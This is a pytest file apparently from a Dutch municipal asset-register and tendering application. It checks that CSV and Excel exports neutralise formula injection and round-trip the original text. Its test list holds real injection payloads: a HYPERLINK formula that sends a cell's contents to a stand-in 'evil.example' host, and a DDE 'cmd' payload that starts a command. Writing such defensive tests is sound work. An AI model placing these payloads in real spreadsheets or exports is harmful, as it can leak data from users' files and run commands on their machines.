"""Exports never write a live formula (formula injection), and an export read back gives the
original text: export -> import -> export of the asset register keeps every text."""

import csv
import json

import openpyxl
import pytest
from django.core.management import call_command

from tests.municipalities.factories import GemeenteFactory
from tests.tendering.helpers import METHOD_YAML, fill_bid, method
from wijkwerk.assets.importing import ImportReport
from wijkwerk.assets.models import Asset
from wijkwerk.core.files import (
    append_row,
    iter_rows,
    neutralise,
    restore_text,
    set_text,
    write_csv,
)
from wijkwerk.tendering.billsheet import template_workbook
from wijkwerk.tendering.sheetread import read_bid

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")',
    "+31 6 12345678",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=al met een aanhalingsteken",
    "''=twee",
    "'gewoon citaat",
    "'",
    "gewoon",
    "a=b",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", HOSTILE)
def test_the_escape_round_trips_every_text(text):
    written = neutralise(text)
    assert not written.startswith(TRIGGERS)
    assert restore_text(written) == text


def test_csv_cells_never_start_a_formula(tmp_path):
    path = tmp_path / "uit.csv"
    write_csv(path, ["naam", "getal"], [[text, -1.5] for text in HOSTILE])
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    for name, number in rows[1:]:
        assert not name.startswith(TRIGGERS)
        assert number == "-1.5"  # numbers stay numbers
    assert [row["naam"] for _, row in iter_rows(path)] == [t.strip() or None for t in HOSTILE]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_text_is_a_string_cell_never_a_formula(tmp_path, write_only):
    workbook = openpyxl.Workbook(write_only=write_only)
    sheet = workbook.create_sheet("blad") if write_only else workbook.active
    append_row(sheet, ["naam", "getal"])
    for text in HOSTILE:
        append_row(sheet, [text, 3])
    if not write_only:
        set_text(sheet["C1"], "=1+1")
    path = tmp_path / "uit.xlsx"
    workbook.save(path)
    cells = [c for row in openpyxl.load_workbook(path).worksheets[0].iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells if c.column == 1][1:] == HOSTILE


def test_the_error_list_of_an_import_is_formula_safe(settings):
    report = ImportReport(file_name="x.csv")
    report.error(3, "=HYPERLINK(1)", "Onbekend assettype '@cmd'.")
    path = report.write_error_csv(prefix="test")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["rij", "veld", "melding"], ["3", "'=HYPERLINK(1)", "Onbekend assettype '@cmd'."]]


def test_the_bid_sheet_template_writes_the_buyers_text_as_text_and_keeps_its_own_rules(tmp_path):
    text = METHOD_YAML.replace("title: Brede samenwerking wijkonderhoud", 'title: "=HYPERLINK(\\"http://x\\")"')
    text = text.replace("description: Uurtarief vakkracht groen", 'description: "@SUM(1)"')
    m = method(text)
    wb = template_workbook(m)
    assert wb["Methode"]["B1"].value == m.title and wb["Methode"]["B1"].data_type == "s"
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
    assert wb["Inschrijving"].data_validations.dataValidation  # the price validation is still there
    bid = read_bid(fill_bid(tmp_path / "bod.xlsx", m), m)
    assert bid.refusals == [] and bid.unit_prices


# --- the asset register -----------------------------------------------------------------------------


def _features():
    features = []
    for i, text in enumerate(HOSTILE):
        features.append({"type": "Feature", "geometry": {"type": "Point", "coordinates": [5.11 + i * 0.001, 52.09]},
                         "properties": {"id": f"B{i}", "opmerking": text, "boomsoort": "Tilia"}})
    return {"type": "FeatureCollection", "features": features}


def _attributes(gemeente) -> dict:
    return dict(Asset.objects.filter(gemeente=gemeente).values_list("external_id", "attributes"))


def _column(path, fmt: str, name: str) -> list:
    if fmt == "csv":
        with path.open(newline="", encoding="utf-8") as handle:
            return [row[name] for row in csv.DictReader(handle)]
    sheet = openpyxl.load_workbook(path).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    j = rows[0].index(name)
    return [row[j] for row in rows[1:]]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_asset_export_import_export_keeps_the_text_and_runs_no_formula(tmp_path, fmt, capsys):
    source, target = GemeenteFactory(slug="bron"), GemeenteFactory(slug="doel")
    start = tmp_path / "bomen.geojson"
    start.write_text(json.dumps(_features()), encoding="utf-8")
    call_command("import_assets", str(start), "--gemeente", "bron", "--asset-type", "tree", "--id-field", "id")
    original = _attributes(source)
    assert original["B0"]["opmerking"] == HOSTILE[0]

    first = tmp_path / f"eerste.{fmt}"
    call_command("export_assets", str(first), "--gemeente", "bron", "--format", fmt)
    if fmt == "xlsx":
        cells = [c for row in openpyxl.load_workbook(first).worksheets[0].iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
    else:
        assert all(not v.startswith(TRIGGERS) for v in _column(first, fmt, "opmerking"))

    call_command("import_assets", str(first), "--gemeente", "doel", "--asset-type", "tree",
                 "--id-field", "external_id")
    assert _attributes(target) == original
    second = tmp_path / f"tweede.{fmt}"
    call_command("export_assets", str(second), "--gemeente", "doel", "--format", fmt)
    assert _column(second, fmt, "opmerking") == _column(first, fmt, "opmerking")
    capsys.readouterr()
